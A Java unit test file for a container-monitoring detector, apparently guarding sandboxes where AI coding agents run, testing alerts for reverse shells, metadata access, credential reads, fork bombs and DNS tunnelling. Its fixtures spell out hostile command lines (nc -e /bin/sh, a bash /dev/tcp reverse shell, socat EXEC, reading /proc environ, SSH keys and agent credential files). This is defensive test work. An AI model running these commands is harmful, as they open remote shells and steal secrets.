package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import coi.config.Config;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class DetectorsTest {
    private static final Config.Monitoring DEFAULTS = new Config.Monitoring(true, true, true, 100, 250, 500, 200,
            List.of(4444, 5555, 1337, 31337), 30);
    private static final String REMOTE = "198.51.100.10";

    @Test
    void anIdleContainerRaisesNothing() {
        assertThat(Detectors.detect(List.of(new Snapshots().idleContainer().build()), DEFAULTS)).isEmpty();
    }

    @Test
    void aShellWithItsStdioOnATcpConnectionIsAReverseShellWhateverItsCommandLine() {
        Snapshot s = new Snapshots().idleContainer()
                .proc(400, "/usr/bin/bash", "/workspace", Snapshots.stdio("socket:[9100]"), "vim")
                .conn("tcp", "10.147.83.75", 40512, REMOTE, 9001, "ESTABLISHED", 9100).build();
        List<Threat> threats = Detectors.reverseShells(s);
        assertThat(threats).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.CRITICAL);
            assertThat(t.category()).isEqualTo(Threat.REVERSE_SHELL);
            assertThat(t.title()).contains("bash").contains(REMOTE + ":9001");
            assertThat(t.evidence().process().pid()).isEqualTo(400);
            assertThat(t.evidence().network().remote()).isEqualTo(REMOTE + ":9001");
            assertThat(t.evidence().network().protocol()).isEqualTo("tcp");
        });
    }

    @Test
    void aPythonPtyShellOverIpv6IsCaught() {
        Snapshot s = new Snapshots()
                .proc(500, "/usr/bin/python3.11", "/workspace", Map.of(0, "socket:[9200]", 1, "socket:[9200]", 2, "socket:[9200]", 3, "socket:[9200]"),
                        "python3", "-c", "import pty; pty.spawn('bash')")
                .conn("tcp", "fd42::5", 40000, "2001:db8::10", 9001, "ESTABLISHED", 9200).build();
        assertThat(Detectors.reverseShells(s)).singleElement().satisfies(t -> assertThat(t.title()).contains("python3.11"));
    }

    @Test
    void aShellOnALoopbackOrUnixSocketIsNotAReverseShell() {
        Snapshot s = new Snapshots()
                .proc(400, "/usr/bin/bash", "/", Snapshots.stdio("socket:[9100]"), "bash")
                .proc(401, "/usr/bin/sh", "/", Snapshots.stdio("socket:[9999]"), "sh")
                .conn("tcp", "127.0.0.1", 40512, "127.0.0.1", 8080, "ESTABLISHED", 9100).build();
        assertThat(Detectors.reverseShells(s)).isEmpty();
    }

    @Test
    void netcatAndSocatWithExecOptionsAndDevTcpRedirectionsAreReverseShells() {
        Snapshot s = new Snapshots()
                .proc(10, "/usr/bin/nc.traditional", "/", Map.of(), "nc", "-e", "/bin/sh", REMOTE, "9001")
                .proc(11, "/usr/bin/socat", "/", Map.of(), "socat", "TCP:" + REMOTE + ":9001", "EXEC:bash,pty,stderr")
                .proc(12, "/usr/bin/bash", "/", Map.of(), "bash", "-c", "bash -i >& /dev/tcp/" + REMOTE + "/9001 0>&1")
                .proc(13, "/usr/bin/nc.openbsd", "/", Map.of(), "nc", REMOTE, "80").build();
        assertThat(Detectors.reverseShells(s)).extracting(t -> t.evidence().process().pid()).containsExactly(10, 11, 12);
    }

    @Test
    void suspiciousPortsAndTheMetadataAddressAreHigh() {
        Snapshot s = new Snapshots()
                .proc(20, "/usr/bin/curl", "/workspace", Map.of(3, "socket:[1]"), "curl", "http://" + REMOTE + ":4444/")
                .proc(21, "/usr/bin/curl", "/workspace", Map.of(3, "socket:[2]"), "curl", "http://169.254.169.254/")
                .proc(22, "/usr/bin/python3", "/workspace", Map.of(3, "socket:[3]"), "python3", "-m", "http.server", "1337")
                .proc(23, "/usr/bin/node", "/workspace", Map.of(3, "socket:[4]"), "node", "server.js")
                .conn("tcp", "10.0.0.5", 50000, REMOTE, 4444, "SYN_SENT", 1)
                .conn("tcp", "10.0.0.5", 50001, "169.254.169.254", 80, "ESTABLISHED", 2)
                .conn("tcp", "0.0.0.0", 1337, "0.0.0.0", 0, "LISTEN", 3)
                .conn("tcp", "0.0.0.0", 3000, "0.0.0.0", 0, "LISTEN", 4).build();
        List<Threat> threats = Detectors.connections(s, DEFAULTS.suspiciousPorts());
        assertThat(threats).allMatch(t -> t.level() == Level.HIGH);
        assertThat(threats).extracting(t -> t.evidence().process().pid()).containsExactly(20, 21, 22);
        assertThat(threats.get(1).title()).contains("metadata");
    }

    @Test
    void environmentScansCredentialGrepsAndKeyFilesAreWarnings() {
        Snapshot s = new Snapshots()
                .proc(30, "/usr/bin/cat", "/workspace", Map.of(3, "/proc/1/environ"), "cat", "/proc/1/environ", "/proc/301/environ")
                .proc(31, "/usr/bin/grep", "/workspace", Snapshots.stdio("pipe:[5]"), "grep", "-i", "key")
                .proc(32, "/usr/bin/tar", "/home/code", Map.of(3, "/home/code/.ssh/id_ed25519"), "tar", "c", ".ssh")
                .proc(33, "/usr/bin/ssh", "/home/code", Map.of(3, "/home/code/.ssh/id_ed25519"), "ssh", "git@example")
                .proc(34, "/usr/bin/grep", "/workspace", Map.of(), "grep", "-rn", "TODO", "src")
                .proc(35, "/usr/bin/cat", "/", Map.of(3, "/proc/35/environ"), "cat", "/proc/self/environ").build();
        List<Threat> threats = Detectors.credentialScans(s);
        assertThat(threats).allMatch(t -> t.level() == Level.WARNING && t.category().equals(Threat.CREDENTIALS));
        assertThat(threats).extracting(t -> t.evidence().process().pid()).containsExactly(30, 31, 32);
    }

    @Test
    void workspaceReadsChargedWithinTheWindowAreHighAboveTheThresholdWithTheLargestReaderAsEvidence() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        long mb = 1024 * 1024;
        // what the first look was charged with happened before the window and does not count
        Snapshot first = new Snapshots().at(t0).build().withWorkspace(List.of(new Snapshot.WorkspaceUse(40, 500 * mb, 0)));
        Snapshot second = new Snapshots().at(t0.plusMillis(200)).proc(40, 1000, "/usr/bin/tar", "/workspace", Map.of(), 0, 0, "tar", "c", ".")
                .build().withWorkspace(List.of(new Snapshot.WorkspaceUse(40, 70 * mb, 0), new Snapshot.WorkspaceUse(41, 10 * mb, 0)));
        Snapshot third = new Snapshots().at(t0.plusMillis(400)).build().withWorkspace(List.of(new Snapshot.WorkspaceUse(40, 40 * mb, 0)));
        List<Snapshot> window = List.of(first, second, third);
        assertThat(Detectors.workspaceIo(window, 100, 250)).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.HIGH);
            assertThat(t.category()).isEqualTo(Threat.FILESYSTEM);
            assertThat(t.title()).startsWith("large workspace read: 120 MB");
            assertThat(t.evidence().filesystem().bytes()).isEqualTo(120 * mb);
            assertThat(t.evidence().process().cmdline()).containsExactly("tar", "c", ".");
        });
        assertThat(Detectors.workspaceIo(window, 150, 250)).isEmpty();
        assertThat(Detectors.detect(window, DEFAULTS)).extracting(Threat::category).containsExactly(Threat.FILESYSTEM);
    }

    @Test
    void writesHaveTheirOwnThresholdAndProcessesOutsideTheWorkspaceAreNotChargedWhateverTheyRead() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        long mb = 1024 * 1024;
        // apt-get run from /workspace read 900 MB of package lists and archives: no workspace file, nothing charged
        Snapshot before = new Snapshots().at(t0).proc(40, 0, "/usr/bin/apt-get", "/workspace", Map.of(), 10 * mb, 0, "apt-get", "install", "jq")
                .build();
        Snapshot after = new Snapshots().at(t0.plusSeconds(1)).proc(40, 0, "/usr/bin/apt-get", "/workspace", Map.of(), 910 * mb, 300 * mb,
                "apt-get", "install", "jq").build().withWorkspace(List.of(new Snapshot.WorkspaceUse(50, 0, 300 * mb)));
        assertThat(Detectors.workspaceIo(List.of(before, after), 100, 250)).singleElement()
                .satisfies(t -> assertThat(t.title()).startsWith("large workspace write: 300 MB"));
        assertThat(Detectors.workspaceIo(List.of(before, after.withWorkspace(List.of())), 100, 250)).isEmpty();
    }

    @Test
    void aProcessReadAtItsExecAndGoneByTheLookIsStillSeenByTheDetectors() {
        Snapshot look = new Snapshots().idleContainer().build();
        Snapshot.Proc cat = new Snapshot.Proc(700, 301, 1000, "cat", "/usr/bin/cat", List.of("cat", "/proc/1/environ"), "/workspace", Map.of(), 0, 0);
        Snapshot.Proc tmux = look.processes().stream().filter(p -> p.pid() == 300).findFirst().orElseThrow();
        Snapshot merged = look.withExecs(List.of(cat, new Snapshot.Proc(300, 1, 1000, "x", "/usr/bin/x", List.of("x"), "/", Map.of(), 0, 0)));
        assertThat(merged.processes()).as("the look's own reading wins for a process still there").contains(tmux).contains(cat)
                .hasSize(look.processes().size() + 1);
        assertThat(Detectors.detect(List.of(merged), DEFAULTS)).singleElement()
                .satisfies(t -> assertThat(t.title()).isEqualTo("reading other processes' environment"));
    }

    /** A thread's own descriptor table (its entry: the tid, its process as tgid) reading its process's environ reads its own. */
    @Test
    void aThreadsOwnTableReadingItsProcesssEnvironReadsItsOwn() {
        Snapshot.Proc own = new Snapshot.Proc(302, 300, 1000, "cat", "/usr/bin/cat", List.of("cat"), "/", Map.of(3, "/proc/300/environ"), 0, 0, 300);
        Snapshot.Proc other = new Snapshot.Proc(303, 300, 1000, "cat", "/usr/bin/cat", List.of("cat"), "/", Map.of(3, "/proc/301/environ"), 0, 0, 300);
        Snapshot.Proc parent = new Snapshot.Proc(304, 300, 1000, "cat", "/usr/bin/cat", List.of("cat"), "/", Map.of(3, "/proc/300/environ"), 0, 0);
        Snapshot s = new Snapshot("c", Instant.EPOCH, List.of(own, other, parent), List.of());
        assertThat(Detectors.credentialScans(s)).extracting(t -> t.evidence().process().pid()).as("a process's parent's environ is another's")
                .containsExactly(303, 304);
    }

    @Test
    void aForkBombIsCriticalByCountOrBySpawnRate() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        Snapshots many = new Snapshots().at(t0.plusSeconds(1));
        for (int pid = 1000; pid < 1600; pid++) many.proc(pid, "/usr/bin/bash", "/workspace", Map.of(), "bash");
        Snapshot one = new Snapshots().at(t0).proc(1, "/sbin/init", "/", Map.of(), "init").build();
        assertThat(Detectors.processSpike(List.of(one, many.build()), 500, 200)).singleElement()
                .satisfies(t -> assertThat(t.title()).isEqualTo("process count 600 above 500"));
        assertThat(Detectors.processSpike(List.of(one, many.build()), 1000, 200)).singleElement()
                .satisfies(t -> assertThat(t.title()).isEqualTo("process spawn rate 600/s above 200/s"));
        assertThat(Detectors.processSpike(List.of(one, many.build()), 1000, 1000)).isEmpty();
    }

    /** Counts every 250 ms as read from a bash fork bomb on the loaded 2-core test machine: some 60 forks a second. */
    @Test
    void aCountThatOnlyClimbsIsAForkBombLongBeforeTheCountOrRateThresholds() {
        assertThat(Detectors.processSpike(counts(100, 130, 160, 190, 170, 220, 250, 280, 310), 500, 200)).as("one dip")
                .singleElement().satisfies(t -> assertThat(t.title()).startsWith("process count climbing: 100 to 310"));
        assertThat(Detectors.processSpike(counts(12, 34, 51, 59, 89, 111, 119, 123, 135), 500, 200)).singleElement()
                .satisfies(t -> {
                    assertThat(t.level()).isEqualTo(Level.CRITICAL);
                    assertThat(t.title()).isEqualTo("process count climbing: 12 to 135 in 2.0s");
                });
    }

    @Test
    void aBuildWhoseCountGoesUpAndDownOrASlowRiseIsNoForkBomb() {
        assertThat(Detectors.processSpike(counts(10, 40, 80, 140, 120, 160, 130, 190, 150, 230), 500, 200)).isEmpty();
        assertThat(Detectors.processSpike(counts(20, 30, 40, 50, 60, 70, 80, 90, 100), 500, 200)).isEmpty();
        assertThat(Detectors.processSpike(counts(12, 34, 51, 59, 89, 111, 119, 123, 135), 1000, 200))
                .as("the rise needed grows with process_count_threshold").isEmpty();
    }

    /** A window of looks 250 ms apart with these process counts, each look keeping the processes of the one before. */
    private static List<Snapshot> counts(int... counts) {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        List<Snapshot> window = new java.util.ArrayList<>();
        for (int i = 0; i < counts.length; i++) {
            Snapshots s = new Snapshots().at(t0.plusMillis(250L * i));
            for (int pid = 100; pid < 100 + counts[i]; pid++) s.proc(pid, "/usr/bin/bash", "/workspace", Map.of(), "bash");
            window.add(s.build());
        }
        return window;
    }

    @Test
    void aFewProcessesStartedBetweenTwoQuickLooksAreNoSpawnRateSpike() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        Snapshots next = new Snapshots().at(t0.plusMillis(100));
        for (int pid = 10; pid < 60; pid++) next.proc(pid, "/usr/bin/cc1", "/workspace", Map.of(), "cc1");
        Snapshot first = new Snapshots().at(t0).proc(1, "/sbin/init", "/", Map.of(), "init").build();
        assertThat(Detectors.processSpike(List.of(first, next.build()), 500, 200)).isEmpty();
    }

    @Test
    void theToolsCredentialFileOpenByAnotherProcessIsAWarningButNotByTheTool() {
        Snapshot s = new Snapshots().idleContainer()
                .proc(40, "/usr/bin/node", "/workspace", Map.of(3, "/home/code/.claude/.credentials.json"), "node", "/usr/local/bin/claude")
                .proc(41, "/usr/local/bin/codex", "/workspace", Map.of(5, "/home/code/.codex/auth.json"), "codex")
                .proc(42, "/usr/bin/cat", "/workspace", Map.of(3, "/home/code/.codex/auth.json"), "cat", "/home/code/.codex/auth.json")
                .proc(43, "/usr/bin/python3.11", "/workspace", Map.of(), "python3", "-c", "x", "/home/code/.local/share/opencode/auth.json")
                .build();
        List<Threat> threats = Detectors.credentialScans(s);
        assertThat(threats).extracting(t -> t.evidence().process().pid()).containsExactlyInAnyOrder(42, 43);
        assertThat(threats).allSatisfy(t -> {
            assertThat(t.level()).isEqualTo(Level.WARNING);
            assertThat(t.category()).isEqualTo(Threat.CREDENTIALS);
        });
        assertThat(threats).extracting(Threat::title)
                .containsExactlyInAnyOrder("reading codex's credential file by cat", "reading opencode's credential file by python3.11");
    }

    @Test
    void risingBlockedAttemptsInAllowlistModeAreHigh() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        Snapshot before = new Snapshots().at(t0).idleContainer().fence(3, -1).build();
        Snapshot probing = new Snapshots().at(t0.plusSeconds(4)).idleContainer().fence(3 + Detectors.BLOCKED_BURST, -1).build();
        Snapshot oneRetry = new Snapshots().at(t0.plusSeconds(4)).idleContainer().fence(6, -1).build();
        assertThat(Detectors.fenceCounters(List.of(before, probing))).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.HIGH);
            assertThat(t.category()).isEqualTo(Threat.NETWORK);
            assertThat(t.title()).isEqualTo(Detectors.BLOCKED_BURST + " blocked connection attempts in 4s");
        });
        assertThat(Detectors.fenceCounters(List.of(before, oneRetry))).isEmpty();
        assertThat(Detectors.detect(List.of(before, probing), DEFAULTS)).extracting(Threat::level).containsExactly(Level.HIGH);
    }

    @Test
    void aBurstOfDnsPacketsIsATunnelByVolume() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        Snapshot before = new Snapshots().at(t0).idleContainer().fence(-1, 40).build();
        Snapshot burst = new Snapshots().at(t0.plusSeconds(8)).idleContainer().fence(-1, 40 + Detectors.DNS_BURST).build();
        Snapshot build = new Snapshots().at(t0.plusSeconds(8)).idleContainer().fence(-1, 40 + 60).build();
        assertThat(Detectors.fenceCounters(List.of(before, burst))).singleElement().satisfies(t -> {
            assertThat(t.level()).isEqualTo(Level.HIGH);
            assertThat(t.category()).isEqualTo(Threat.DNS_TUNNEL);
            assertThat(t.title()).isEqualTo("burst of " + Detectors.DNS_BURST + " DNS packets in 8s");
        });
        assertThat(Detectors.fenceCounters(List.of(before, build))).as("a build resolving a few dozen names").isEmpty();
    }

    @Test
    void unknownOrResetCountersRaiseNothing() {
        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
        Snapshot unknown = new Snapshots().at(t0).idleContainer().build();
        Snapshot high = new Snapshots().at(t0.plusSeconds(2)).idleContainer().fence(5000, 5000).build();
        Snapshot reset = new Snapshots().at(t0.plusSeconds(4)).idleContainer().fence(0, 0).build();
        assertThat(Detectors.fenceCounters(List.of(unknown, high))).isEmpty();
        assertThat(Detectors.fenceCounters(List.of(high, reset))).isEmpty();
    }
}
